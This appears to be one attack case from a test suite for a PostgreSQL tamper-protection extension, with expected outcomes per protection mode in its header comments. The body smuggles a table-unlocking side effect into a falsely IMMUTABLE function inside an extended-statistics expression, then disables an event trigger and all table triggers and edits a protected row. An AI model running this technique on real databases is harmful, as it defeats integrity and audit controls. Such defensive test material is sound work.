-- role: superuser
-- tries: statistics of our own table whose expression the planner computes while we act as ourselves
-- none: bites
-- guarded: not held
-- locked: held
-- detected: content_hash
CREATE FUNCTION public.deed() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  IF current_setting('evil.armed', true) IS DISTINCT FROM 'on' THEN RETURN; END IF;
  PERFORM set_config('evil.armed', 'off', false);
  UPDATE retry_ledger.governed_table SET locked = false;
EXCEPTION WHEN OTHERS THEN RAISE WARNING '%', SQLERRM;
END $$;
CREATE FUNCTION public.lie(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.deed(); RETURN $1; END';
CREATE STATISTICS retry_ledger.mine ON (run_key || public.lie('x')), run_table FROM retry_ledger.ledger_entry;
ANALYZE retry_ledger.ledger_entry;
SET evil.armed = 'on';
SELECT retry_ledger.release_governance('app.log', 'x');
SELECT retry_ledger.approve_release('app.log');
\c
ALTER EVENT TRIGGER retry_ledger_ddl_end DISABLE;
ALTER TABLE app.runs DISABLE TRIGGER ALL;
UPDATE app.runs SET error = 'x' WHERE id = 2;
